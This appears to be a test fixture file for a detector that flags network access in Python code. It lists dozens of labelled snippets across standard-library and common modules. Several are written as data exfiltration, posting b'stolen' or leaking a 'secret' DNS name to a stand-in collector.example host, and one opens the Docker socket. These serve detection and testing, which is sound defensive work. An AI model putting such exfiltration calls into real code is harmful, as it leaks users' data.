"""The network through every client and server of the standard library, and a few that are often installed."""

#: socket_imported -> network
from socket import socket, AF_INET
socket(AF_INET).connect_ex(("10.0.0.1", 22))

#: socket_listen -> network
import socket
s = socket.socket()
s.bind(("0.0.0.0", 8000))
s.listen()

#: socket_create_server -> network
import socket
socket.create_server(("", 8000)).accept()

#: socket_udp -> network
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53))

#: socket_unix -> network
import socket
socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")

#: dns_lookup -> network
import socket
socket.gethostbyname("secret.collector.example")

#: dns_getaddrinfo -> network
from socket import getaddrinfo as look
look("secret.collector.example", 80)

#: dns_getfqdn -> network
import socket
print(socket.getfqdn("collector.example"))

#: http_client -> network
import http.client
c = http.client.HTTPConnection("example.com")
c.request("GET", "/")

#: http_server -> network
import http.server
http.server.HTTPServer(("", 8000), http.server.SimpleHTTPRequestHandler).serve_forever()

#: http_server_test -> network
from http.server import test
test(port=8000)

#: wsgi_server -> network
from wsgiref.simple_server import make_server
make_server("", 8000, lambda e, s: [b"x"]).handle_request()

#: urlopen_imported -> network
from urllib.request import urlopen as read
read("https://example.com/")

#: urllib_request_object -> network
import urllib.request as r
r.urlopen(r.Request("https://collector.example/", data=b"stolen", method="POST"))

#: urlretrieve -> network
from urllib import request
request.urlretrieve("https://example.com/a", "/tmp/a")

#: urllib_opener -> network
import urllib.request
urllib.request.build_opener().open("http://example.com/")

#: urllib_robotparser -> network
import urllib.robotparser
p = urllib.robotparser.RobotFileParser("http://example.com/robots.txt")
p.read()

#: ftplib -> network
import ftplib
ftplib.FTP("ftp.example.com").login()

#: smtplib -> network
import smtplib
smtplib.SMTP("mail.example.com").sendmail("a@example.com", "b@example.com", "x")

#: poplib -> network
import poplib
poplib.POP3("mail.example.com")

#: imaplib -> network
import imaplib
imaplib.IMAP4_SSL("mail.example.com")

#: asyncio_open_connection -> network
import asyncio
async def main():
    reader, writer = await asyncio.open_connection("example.com", 80)
asyncio.run(main())

#: asyncio_start_server -> network
import asyncio
async def main():
    await asyncio.start_server(lambda r, w: None, port=8000)
asyncio.run(main())

#: asyncio_loop_create_connection -> network
import asyncio
async def main():
    loop = asyncio.get_running_loop()
    await loop.create_connection(asyncio.Protocol, "example.com", 80)
asyncio.run(main())

#: asyncio_getaddrinfo -> network
import asyncio
async def main():
    await asyncio.get_event_loop().getaddrinfo("collector.example", 80)
asyncio.run(main())

#: xmlrpc_client -> network
import xmlrpc.client
xmlrpc.client.ServerProxy("http://example.com/").ping()

#: xmlrpc_server -> network
from xmlrpc.server import SimpleXMLRPCServer
SimpleXMLRPCServer(("", 8000))

#: ssl_certificate -> network
import ssl
ssl.get_server_certificate(("example.com", 443))

#: ssl_context_wrap -> network
import socket, ssl
ssl.create_default_context().wrap_socket(socket.socket(), server_hostname="example.com")

#: socketserver_tcp -> network
import socketserver
socketserver.TCPServer(("", 8000), socketserver.BaseRequestHandler)

#: socketserver_subclass -> network
from socketserver import ThreadingMixIn, UDPServer
class S(ThreadingMixIn, UDPServer): ...
S(("", 8000), None)

#: webbrowser -> network
import webbrowser
webbrowser.open("https://example.com/?q=stolen")

#: antigravity -> network
import antigravity

#: logging_socket_handler -> network
import logging.handlers
logging.handlers.SocketHandler("collector.example", 9020).emit(logging.makeLogRecord({}))

#: logging_http_handler -> network
from logging.handlers import HTTPHandler
HTTPHandler("collector.example", "/log").emit(__import__("logging").makeLogRecord({}))

#: logging_syslog_handler -> network
import logging.handlers
logging.handlers.SysLogHandler(("collector.example", 514))

#: logging_config_listen -> network
import logging.config
logging.config.listen(9030).start()

#: multiprocessing_connection -> network
from multiprocessing.connection import Client
Client(("collector.example", 6000))

#: multiprocessing_manager -> network
from multiprocessing.managers import BaseManager
BaseManager(("collector.example", 6000), b"k").connect()

#: pip_main -> network
import pip
pip.main(["install", "left-pad"])

#: requests_get -> network
import requests
requests.get("https://example.com/")

#: httpx_post -> network
import httpx
httpx.post("https://collector.example/", content=b"stolen")

#: urllib3_pool -> network
import urllib3
urllib3.PoolManager().request("GET", "https://example.com/")

#: aiohttp_session -> network
import aiohttp, asyncio
async def main():
    async with aiohttp.ClientSession() as s:
        await s.get("https://example.com/")
asyncio.run(main())

#: paramiko_ssh -> network
import paramiko
paramiko.SSHClient().connect("example.com")

#: pandas_reads_url -> network
import pandas
pandas.read_csv("https://example.com/a.csv")

#: socket_class_inherited -> network
import socket
class Quiet(socket.socket): ...
Quiet().connect(("example.com", 80))

#: create_connection_through_ssl -> network
import ssl
ssl.create_connection(("example.com", 80))

#: select_poll_descriptor -> network
import select, socket
s = socket.fromfd(3, socket.AF_INET, socket.SOCK_STREAM)
select.select([s], [], [])

#: pydoc_server -> network
import pydoc
pydoc.browse(8000, open_browser=False)

#: sax_url -> network
import xml.sax
xml.sax.parse("http://example.com/a.xml", xml.sax.ContentHandler())
